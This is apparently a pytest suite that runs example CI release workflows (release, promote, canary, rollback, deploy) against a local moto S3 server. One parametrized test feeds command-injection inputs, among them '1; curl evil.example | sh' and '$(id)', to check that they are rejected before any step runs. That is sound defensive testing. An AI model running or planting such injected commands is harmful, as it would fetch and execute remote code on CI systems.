"""The example workflows and the smoke workflow, run as pasted against moto (workflow_runner).

A release's story, one workflow after another on one bucket: a push stores LATEST, a tag
publishes and attests it, production takes staging after approval, a canary and its completion,
a rollback, and a deploy that reads production with the read-only role. README.md shows these
files verbatim; a test below holds the two together.
"""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest
from moto.server import ThreadedMotoServer
from workflow_runner import WorkflowError, WorkflowRun, evaluate

ROOT = Path(__file__).parents[1]
EXAMPLES = ROOT / "examples"
MAKEFILE = ".PHONY: dist\ndist:\n\tmkdir -p dist && head -c 70000 /dev/urandom > dist/app.zip\n"


@pytest.fixture
def aws(tmp_path):
    """A moto server of the test's own, so the examples' fixed bucket name starts empty."""
    server = ThreadedMotoServer(ip_address="127.0.0.1", port=0, verbose=False)
    server.start()
    host, port = server.get_host_and_port()
    endpoint = f"http://{host}:{port}"
    import botocore.session

    s3 = botocore.session.get_session().create_client(
        "s3", endpoint_url=endpoint, region_name="us-east-1"
    )
    s3.create_bucket(Bucket="acme-artifacts")
    yield endpoint
    server.stop()


@pytest.fixture
def workspace(tmp_path):
    path = tmp_path / "job" / "workspace"
    path.mkdir(parents=True)
    (path / "Makefile").write_text(MAKEFILE)
    return path


def run(name: str, workspace: Path, endpoint: str, job: str, **inputs: str):
    workflow = WorkflowRun(EXAMPLES / name, workspace, inputs, AWS_ENDPOINT_URL=endpoint)
    return workflow.job(job)


def outcomes(result) -> dict[str, str]:
    return {step.name: step.outcome for step in result.steps}


def test_a_release_from_push_to_rollback(aws, workspace):
    pushed = run("push-main.yml", workspace, aws, "build")
    assert pushed.step("store").outputs["version"] == "LATEST", pushed.log
    assert "changed true" in pushed.log

    released = run("release.yml", workspace, aws, "release")
    assert set(outcomes(released).values()) == {"success"}, released.log
    publish = released.step("release").outputs
    assert publish["version"] == "1" and publish["alias"] == "staging"
    assert publish["digest"] == "sha256:" + publish["sha256"]  # what the attestation took
    assert "v1.2.3 is version 1, now on staging" in released.log

    promoted = run("promote.yml", workspace, aws, "promote", expected="")
    assert promoted.environment == "production"
    assert promoted.step("promote").outputs["version"] == "1", promoted.log

    (workspace / "dist" / "app.zip").unlink()
    second = run("release.yml", workspace, aws, "release")
    assert second.step("release").outputs["version"] == "2", second.log

    canary = run("canary.yml", workspace, aws, "promote", stable="1", candidate="2", weight="10")
    assert outcomes(canary)["complete"] == "skipped"
    assert canary.step("canary").outputs["secondary-weight"] == "10", canary.log
    done = run("canary.yml", workspace, aws, "promote", stable="1", candidate="2", weight="100")
    assert outcomes(done)["canary"] == "skipped"
    assert done.step("complete").outputs["version"] == "2", done.log

    back = run("rollback.yml", workspace, aws, "rollback", alias="production")
    assert back.environment == "production"
    assert back.step("rollback").outputs["version"] == "1", back.log
    assert "now 1 (was 2)" in back.log

    deployed = run("deploy.yml", workspace, aws, "deploy")
    assert set(outcomes(deployed).values()) == {"success"}, deployed.log
    assert "app.zip: OK" in deployed.log and "deploying app version 1" in deployed.log


@pytest.mark.parametrize(
    ("name", "job", "inputs"),
    [
        ("rollback.yml", "rollback", {"version": "1; curl evil.example | sh"}),
        ("rollback.yml", "rollback", {"version": "0"}),
        ("canary.yml", "promote", {"stable": "1", "candidate": "$(id)", "weight": "10"}),
        ("canary.yml", "promote", {"stable": "3", "candidate": "3", "weight": "50"}),
        ("promote.yml", "promote", {"expected": "latest"}),
    ],
)
def test_dispatch_inputs_are_checked_before_any_request(aws, workspace, name, job, inputs):
    result = run(name, workspace, aws, job, **inputs)
    steps = outcomes(result)
    assert list(steps.values())[0] == "failure"
    assert set(list(steps.values())[1:]) == {"skipped"}  # no credentials, no action step
    assert "::error title=" in result.steps[0].log
    assert not any(value in result.steps[0].log for value in inputs.values() if "$" in value)


def test_a_choice_input_outside_its_options_is_refused_as_the_runner_does(aws, workspace):
    with pytest.raises(WorkflowError, match="alias"):
        run("rollback.yml", workspace, aws, "rollback", alias="prod")


def test_the_smoke_workflow_runs_here_with_moto_as_its_service(aws, workspace):
    """Every step but the one that starts moto (which asks Docker for the bridge's address)."""
    for backend in ("s3", "s3-dynamodb"):
        smoke = WorkflowRun(
            ROOT / ".github" / "workflows" / "smoke.yml",
            workspace,
            stand_ins={"moto": {"endpoint": aws}},
        )
        result = smoke.job("smoke", matrix={"backend": backend})
        assert set(outcomes(result).values()) == {"success"}, result.log
        history = json.loads(result.step("history").outputs["history"])
        assert [entry["new"]["version"] for entry in history] == ["1", "1", "1"]
        assert history[1]["new"]["secondary_version"] == "2"


def test_readme_shows_each_example_verbatim():
    readme = (ROOT / "README.md").read_text()
    shown = dict(re.findall(r"```yaml\n# examples/(\S+)\n(.*?)```", readme, re.S))
    files = {path.name: path.read_text() for path in EXAMPLES.glob("*.yml")}
    assert shown == files


def test_an_expression_inside_run_is_refused(tmp_path):
    workflow = tmp_path / "bad.yml"
    workflow.write_text(
        "on: push\njobs:\n  a:\n    steps:\n      - run: echo ${{ github.ref_name }}\n"
    )
    (tmp_path / "ws").mkdir()
    with pytest.raises(WorkflowError, match="inside run"):
        WorkflowRun(workflow, tmp_path / "ws").job("a")


@pytest.mark.parametrize(
    ("expression", "expected"),
    [
        ("inputs.weight != '100'", True),
        ("inputs.weight == '100' || inputs.alias == 'staging'", False),
        ("!(inputs.weight == '10') && true", False),
        ("steps.x.outputs.changed", "true"),
        ("steps.nope.outputs.changed", None),
    ],
)
def test_the_expression_subset(expression, expected):
    context = {
        "inputs": {"weight": "10", "alias": "production"},
        "steps": {"x": {"outputs": {"changed": "true"}}},
    }
    assert evaluate(expression, context) == expected


def test_an_unknown_context_is_an_error_not_an_empty_string():
    with pytest.raises(WorkflowError, match="secrets"):
        evaluate("secrets.TOKEN", {"inputs": {}})
